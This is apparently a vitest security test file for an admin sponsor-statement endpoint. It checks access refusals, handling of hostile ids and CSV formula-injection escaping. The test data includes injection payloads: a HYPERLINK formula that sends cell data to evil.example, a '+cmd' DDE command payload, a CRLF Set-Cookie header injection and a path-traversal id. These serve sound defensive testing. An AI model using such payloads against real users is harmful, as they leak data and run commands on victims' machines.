/**
 * The sponsor statement (`GET /api/admin/sponsors/{sponsorId}/statement`) under attack: read
 * without credentials, with a viewer's token or from another site riding the operator's Access
 * cookie; unknown and hostile sponsor ids; and a spreadsheet formula smuggled into its CSV
 * through the ids and the phase title an operator typed (the CSV goes to sponsors, who open it
 * in a spreadsheet): no text cell may start with `=`, `+`, `-`, `@`, a tab or a carriage
 * return (OWASP's CSV injection rule), while numbers stay numbers.
 */
import { describe, expect, it } from "vitest";
import type { ApiErrorBody } from "../../src/wire/index";
import { admin, call, createPool, putTimeline, session } from "../support/api";
import { operatorToken } from "../support/identity";
import { phase } from "../support/phases";

const path = (sponsorId: string, query = "") => `/api/admin/sponsors/${encodeURIComponent(sponsorId)}/statement${query}`;

/** CSV text split into rows of cells, quotes undone (RFC 4180). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") (row.push(cell), (cell = ""));
    else if (ch === "\r" && text[i + 1] === "\n") (row.push(cell), rows.push(row), (row = []), (cell = ""), i++);
    else cell += ch;
  }
  return rows;
}

async function refused(res: Response, status: number): Promise<void> {
  expect(res.status).toBe(status);
  expect(res.headers.get("Content-Type")).toContain("application/json");
  expect(((await res.json()) as ApiErrorBody).error.code).toEqual(expect.any(String));
}

describe("the sponsor statement under attack", () => {
  it("is refused without an operator, to a viewer, and to another site riding the operator's Access cookie", async () => {
    await refused(await call(path("aurora")), 401);
    await refused(await call(path("aurora", "?format=csv")), 401);
    const viewer = await session();
    await refused(await call(path("aurora", "?format=csv"), { headers: { Authorization: `Bearer ${viewer.token}` } }), 401);
    const cookie = `CF_Authorization=${await operatorToken("ada")}`;
    await refused(await call(path("aurora", "?format=csv"), { headers: { Cookie: cookie, "Sec-Fetch-Site": "cross-site" } }), 403);
    // The same cookie from the console's own page reads it (a 404 here: whether this gala has pools of it is not the point).
    expect([200, 404]).toContain((await call(path("aurora"), { headers: { Cookie: cookie, "Sec-Fetch-Site": "same-origin" } })).status);
  });

  it("answers unknown and hostile sponsor ids with a JSON 404, never a 5xx and never a file", async () => {
    for (const sponsorId of ["nobody", "../../timeline", '"; filename="x.html', "a\r\nSet-Cookie: x=1", "=1+2", "x".repeat(600)]) {
      const res = await admin("GET", `/sponsors/${encodeURIComponent(sponsorId)}/statement?format=csv`);
      await refused(res, 404);
      expect(res.headers.get("Content-Disposition"), sponsorId).toBeNull();
    }
  });

  it("writes no cell a spreadsheet would run as a formula, whatever the ids and the phase title, and keeps numbers as numbers", async () => {
    const now = Date.now();
    const tag = crypto.randomUUID().slice(0, 6);
    const sponsorId = `-2-sponsor-${tag}`;
    const lotteryId = `-3-lottery-${tag}`;
    const title = '=HYPERLINK("https://evil.example/?"&A1,"Click for your bonus")';
    await putTimeline({
      galaId: `-1-gala-${tag}`,
      sponsors: [{ id: sponsorId, name: "@SUM(1+1)", assetId: "sponsor-aurora" }],
      phases: [
        phase(lotteryId, "lottery", now - 60_000, now + 600_000, { title, sponsorIds: [sponsorId] }),
        phase(`greeting-${tag}`, "greeting", now + 600_000, now + 900_000, { title: "+cmd|' /C calc'!A0" }),
      ],
    });
    await createPool({ phaseId: lotteryId, sponsorId, budgetCents: 1_000, count: 10 });

    const json = (await (await admin("GET", `/sponsors/${encodeURIComponent(sponsorId)}/statement`)).json()) as {
      pools: { phaseTitle: string }[];
    };
    expect(json.pools[0].phaseTitle).toBe(title); // the JSON keeps what the operator typed

    const res = await admin("GET", `/sponsors/${encodeURIComponent(sponsorId)}/statement?format=csv`);
    expect(res.status).toBe(200);
    const rows = parseCsv(await res.text());
    const cells = rows.flat();
    expect(cells.some((c) => c.includes("HYPERLINK"))).toBe(true);
    expect(cells.some((c) => c.includes(sponsorId))).toBe(true);
    const formulas = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+$/.test(c));
    expect(formulas).toEqual([]);
    const header = rows[1];
    const pool = rows.find((r) => r[0].endsWith(lotteryId))!;
    expect(pool[header.indexOf("loadedCents")]).toBe("1000");
    expect(pool[header.indexOf("inStockCents")]).toBe("1000");
  });
});
